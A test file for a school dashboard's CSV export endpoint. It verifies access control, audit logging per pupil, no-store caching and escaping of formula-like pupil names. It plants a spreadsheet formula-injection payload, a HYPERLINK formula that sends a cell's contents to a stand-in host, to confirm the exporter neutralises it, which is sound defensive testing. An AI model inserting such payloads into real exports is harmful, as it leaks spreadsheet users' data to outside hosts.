/**
 * "Hent som CSV" (app/api/dashboard/export): only for `dashboard:view`, audited (a refusal, the
 * export, each named pupil), never cached, and a pupil whose name looks like a formula arrives in
 * the spreadsheet as text.
 */
import { beforeAll, describe, expect, it, vi } from "vitest";
import { GET } from "@/app/api/dashboard/export/route";
import type { Actor } from "@/lib/auth/policy";
import { CSV_BOM, parseCsv } from "@/lib/csv-export";
import { getSchoolDashboard } from "@/lib/dashboard/school";
import { db } from "@/lib/db/client";
import type { Role } from "@/lib/generated/prisma/enums";
import { seedDemo } from "@/prisma/seed";
import { actorAt } from "../support/factories";

const request = vi.hoisted(() => ({ actor: null as Actor | null }));
vi.mock("@/lib/auth/session", () => ({ getActor: async () => request.actor }));
vi.mock("@/lib/i18n/server", async () => {
  const i18n = await import("@/lib/i18n");
  return { getT: async () => i18n.createTranslator(i18n.messagesFor("da")) };
});

const FORMULA_NAME = '=HYPERLINK("http://x.test/?"&A1;"Klik")';

async function actorWith(email: string, roles?: Role[]): Promise<Actor> {
  const user = await db.user.findUniqueOrThrow({
    where: { email },
    select: {
      id: true,
      name: true,
      email: true,
      roles: { select: { role: true, school: true } },
    },
  });
  const school = user.roles[0]!.school;
  return actorAt(user, school, roles ?? user.roles.map((role) => role.role));
}

const exportUrl = "http://localhost/api/dashboard/export";

describe("the dashboard as CSV", () => {
  let leader: Actor;
  let teacher: Actor;

  beforeAll(async () => {
    await seedDemo(db);
    leader = await actorWith("leder@demoskolen.dk");
    teacher = await actorWith("laerer@demoskolen.dk");
  }, 300_000);

  it("is refused without a session and, audited, without dashboard:view", async () => {
    request.actor = null;
    expect((await GET(new Request(exportUrl))).status).toBe(401);

    request.actor = teacher;
    const response = await GET(new Request(exportUrl));
    expect(response.status).toBe(403);
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(
      await db.auditLog.count({
        where: { actorId: teacher.userId, action: "dashboard.export", outcome: "DENIED" },
      }),
    ).toBe(1);
  });

  it("gives leadership the tables, names as text, audited per pupil, not cached", async () => {
    const listed = (await getSchoolDashboard(leader)).overThreshold.items;
    expect(listed.length).toBeGreaterThan(0);
    await db.pupil.update({
      where: { id: listed[0]!.pupil.id },
      data: { firstName: FORMULA_NAME, lastName: "-1+1" },
    });

    request.actor = leader;
    const response = await GET(new Request(exportUrl));
    expect(response.status).toBe(200);
    expect(response.headers.get("cache-control")).toBe("no-store");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="overblik-/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // UTF-8 byte-order mark
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(text.startsWith(CSV_BOM)).toBe(true);

    const cells = parseCsv(text).flat();
    expect(cells).toContain("Elever over grænsen uden opfølgning");
    expect(cells).toContain(`'${FORMULA_NAME} -1+1`);
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const exported = await db.auditLog.findMany({
      where: { actorId: leader.userId, action: "dashboard.export", outcome: "ALLOWED" },
      select: { pupilId: true },
    });
    expect(exported.filter((entry) => entry.pupilId === null)).toHaveLength(1);
    expect(new Set(exported.flatMap((entry) => entry.pupilId ?? []))).toEqual(
      new Set(listed.map((item) => item.pupil.id)),
    );
  });
});
